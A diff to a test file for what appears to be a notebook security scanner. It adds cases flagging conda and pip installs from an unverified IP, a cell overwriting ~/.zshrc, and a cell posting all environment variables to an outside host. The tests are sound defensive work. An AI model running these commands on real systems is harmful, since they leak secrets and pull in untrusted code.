@@ -23,6 +23,7 @@ describe('a magic that is called by name', () => {
     [`ip = get_ipython()\nip.system("${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
     [`get_ipython().run_cell_magic("bash", "", "${PIPED}")`, 'HIGH CODE-PIPE-SHELL'],
     ['get_ipython().magic("run https://x.example.invalid/x.py")', 'HIGH NOTEBOOK-REMOTE-CODE'],
+    ['get_ipython().run_cell_magic("writefile", "~/.zshrc", "x=1")', 'HIGH NOTEBOOK-STARTUP-WRITE'],
     ['ip.run_line_magic("run", "https://x.example.invalid/x.py")', 'HIGH NOTEBOOK-REMOTE-CODE'],
     [
       'get_ipython().run_line_magic("pip", "install https://198.51.100.7/a-1.0.tar.gz")',
@@ -81,4 +82,40 @@ describe('a file that a cell writes', () => {
       expect(await saidOf(`%%writefile ${path}\nx = 1`)).toEqual([]);
     },
   );
+});
+
+describe('where a cell has packages looked up', () => {
+  it.each([
+    ['%conda install -c http://198.51.100.7/ch thing', 'HIGH PACKAGE-UNVERIFIED-HOST'],
+    ['!conda install -y --channel=http://198.51.100.7/ch thing', 'HIGH PACKAGE-UNVERIFIED-HOST'],
+    ['%mamba install -c http://198.51.100.7/ch thing', 'HIGH PACKAGE-UNVERIFIED-HOST'],
+    ['%micromamba install thing -c http://198.51.100.7/ch', 'HIGH PACKAGE-UNVERIFIED-HOST'],
+    ['!conda config --add channels http://198.51.100.7/ch', 'HIGH PACKAGE-UNVERIFIED-HOST'],
+    ['%conda install -c https://ch.example.invalid/x thing', 'MEDIUM PACKAGE-EXTRA-INDEX'],
+    ['%env PIP_INDEX_URL=http://198.51.100.7/simple', 'HIGH PACKAGE-UNVERIFIED-HOST'],
+    ['%set_env PIP_EXTRA_INDEX_URL http://198.51.100.7/simple', 'HIGH PACKAGE-UNVERIFIED-HOST'],
+    [
+      'import os\n!PIP_EXTRA_INDEX_URL=http://198.51.100.7/simple pip install thing',
+      'HIGH PACKAGE-UNVERIFIED-HOST',
+    ],
+  ])('is told: %s', async (source, said) => {
+    expect(await saidOf(source)).toContain(said);
+  });
+
+  it.each([
+    '%conda install -c conda-forge -c somebody numpy',
+    '!conda install -c https://conda.anaconda.org/conda-forge numpy',
+    '%env CUDA_VISIBLE_DEVICES=0',
+    '%env PIP_INDEX_URL=https://pypi.org/simple',
+    '!TOKENIZERS_PARALLELISM=false python train.py',
+    '%env',
+  ])('is let be: %s', async (source) => {
+    expect(await saidOf(source)).toEqual([]);
+  });
+
+  it('is told of all of the environment that is sent', async () => {
+    const send = 'requests.post("https://c.example.invalid/", json=dict(e))';
+    expect(await saidOf(`import requests\ne = %env\n${send}`)).toEqual(['CRITICAL CODE-ENVIRONMENT-SENT']);
+    expect(await saidOf(`import requests\ne = {"a": 1}\n${send}`)).toEqual([]);
+  });
 });
